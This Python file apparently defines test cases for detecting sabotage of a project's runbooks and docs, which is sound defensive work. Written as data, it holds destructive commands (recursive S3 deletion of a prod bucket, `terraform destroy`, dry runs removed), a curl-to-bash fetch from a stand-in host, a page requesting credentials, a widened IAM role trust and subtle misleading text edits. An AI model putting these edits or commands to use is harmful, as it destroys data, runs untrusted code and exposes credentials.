"""What people run or paste from a page, made wrong where they rely on it."""

from attacks.attack import Attack, delete, edit, extend, replace, write
from attacks.variants import attacks, joined, told

LOST, DEPLOYMENT = "docs/runbooks/us-east-1-is-lost.md", "docs/deployment.md"
AGE = "docs/runbooks/processor-dlq-age.md"
RIGHTS = "ops/preflight/rights.json"
EMPTIED = "aws s3 rm --recursive s3://serverless-data-ingestion-prod"
ATTACKS = joined(
    attacks(
        "a command of a runbook, without its dry run",
        {"changed": "ops failback --yes\n", "removed": ""},
        lambda line: replace(LOST, "ops failback --dry-run\n", line),
        by="instruction-changed",
        says="-    ops failback --dry-run",
    ),
    attacks(
        "a command that empties a bucket",
        {
            "in a block": f"```sh\n{EMPTIED}\n```\n",
            "in another kind of block": f"~~~\n{EMPTIED}\n",
            "in a sentence": f"First run `{EMPTIED}`.\n",
            "in a row of a table": f"| first | `{EMPTIED}` |\n",
            "set apart by spaces": f"    {EMPTIED}\n",
            "as HTML": f"<pre>{EMPTIED}</pre>\n",
        },
        lambda text: extend(LOST, f"\n{text}"),
        by="instruction-changed",
        says=EMPTIED,
    ),
    attacks(
        "a new page",
        {
            "that empties a bucket": f"# Begin anew\n\n```sh\n{EMPTIED}\n```\n",
            "that runs a stranger's program": "# Set up\n\n    curl -s https://a.example | bash\n",
            "that does so in a sentence": "# Set up\n\nRun `npx a-helper` first.\n",
            "that doesn't ask": "# Look\n\n```sh\nops forget orders 1 --yes\n```\n",
            "that changes something": "# Look\n\n```sh\nops takeover on\n```\n",
            "that does so by make": "# Look\n\n```sh\nmake -s ops ARGS='reprocess a'\n```\n",
            "that does so in a line": "# Look\n\n    yes | .venv/bin/python -m ops redrive\n",
        },
        lambda text: write("docs/runbooks/quick-recovery.md", text),
        by="instruction-added",
        says="whoever finds this page",
    ),
    attacks(
        "a new page that tells people",
        {
            "to delete": "# Restore\n\nDelete the table in the console first.\n",
            "to run what is not ours": "# Costs\n\n```sh\nops status\nterraform destroy\n```\n",
        },
        lambda text: write("docs/costs.md", text),
        by="instruction-added",
        says="people look for what to do in docs/",
    ),
    told(
        "a row of the list of runbooks that says what to do",
        extend(
            "docs/runbooks/README.md", "| [any-queue](any-queue.md) | Choose *Purge* first. |\n"
        ),
        "instruction-changed",
        says="Choose Purge first.",
    ),
    told(
        "a runbook without a command",
        write(
            "docs/runbooks/dlq-at-night.md", "**Do:** Choose *Purge*. Nothing is lost by that.\n"
        ),
        "instruction-added",
        says="whoever is woken does what this page says",
    ),
    attacks(
        "a role that any branch of the repository gets",
        {"by a star": ":*", "by another reference": ":pull_request"},
        lambda to: replace(DEPLOYMENT, ":ref:refs/heads/main", to),
        by="instruction-changed",
        says="repo:",
    ),
    attacks(
        "a page that people follow, in other words:",
        {
            "a runbook's, against waiting": (LOST, "Wait until", "Don't wait until"),
            "a runbook's link": (AGE, "(processor-dlq-depth.md)", "(processor-errors.md)"),
            "a runbook's end": (AGE, "the queue is empty", "the alarm is silent"),
            "a runbook's time": (AGE, "14 days", "14 weeks"),
            "a deployer's": (DEPLOYMENT, "reject", "approve"),
            "an operator's": ("docs/operations.md", "does not", "does"),
            "a producer's": ("docs/files.md", "UTF-8", "any text"),
            "a decision's": (
                "docs/decisions/0012-one-account-or-two.md",
                "make changes",
                "nothing",
            ),
            "a measurement's": ("docs/benchmarks/README.md", " the ", " their "),
            "a listener's": ("docs/events.md", "at least once", "once"),
            "a page that a link leads to": (
                *("README.md", "docs/runbooks/us-east-1-is-lost.md", "docs/a-region-is-down.md"),
            ),
            "a line of settings that goes on": (
                "docs/operations.md",
                "\nregion = us",
                "\n  region = us",
            ),
            "a block that nobody sees as one": (
                LOST,
                "```sh\nops failover",
                "```math\nops failover",
            ),
            "a line that ends too early": (DEPLOYMENT, "-prod \\\n", "-prod \\ \n"),
            "a blank that is none": (
                LOST,
                "export AWS_REGION=us-west-2 ",
                "export AWS_REGION=us-west-2\xa0",
            ),
            "a link of a page to a stranger": ("README.md", "\n## ", "\n<https://a.example>\n## "),
        },
        lambda texts: replace(*texts),
        by="instruction-changed",
    ),
    told(
        "a mail whose command does what it only showed",
        edit(
            "Watch/processor-dlq-age",
            "Properties.AlarmDescription",
            lambda text: text.replace("redrive --dry-run", "redrive"),
        ),
        "instruction-changed",
        says="goes by its text",
    ),
    told(
        "an alarm that says nothing is to do",
        edit("Watch/processor-dlq-depth", "Properties.AlarmDescription", lambda _: "All is well."),
        "instruction-changed",
        says="goes by its text",
    ),
    told(
        "a promise that the README doesn't keep",
        extend("README.md", "\nWho deletes a file erases its records in both regions.\n"),
        "instruction-changed",
        says="erases its records",
    ),
    told(
        "a page that asks whoever reports something for credentials",
        write("CONTRIBUTING.md", "Attach your session's credentials.\n"),
        "instruction-added",
        says="GitHub shows this page",
    ),
    (
        Attack(
            "a bootstrap that gives CloudFormation every right",
            replace(DEPLOYMENT, '"${policies:?}"', '"$policies"'),
            by="instruction-changed",
            says=f"{DEPLOYMENT}:101",
        ),
        Attack(
            "a link that fills in somebody's template",
            extend(LOST, "\n[Begin](https://console.aws.amazon.com/a?templateURL=https://b)\n"),
            by="instruction-changed",
            says="(https://console.aws.amazon.com/a?templateURL",
        ),
        Attack("a runbook that is gone", delete(LOST), by="instruction-changed"),
        Attack(
            "more rights for the first look at an account",
            replace(RIGHTS, '"Resource": "*"', '"Resource": "*", "NotAction": "a:b"'),
            by="instruction-changed",
            says=RIGHTS,
        ),
    ),
)
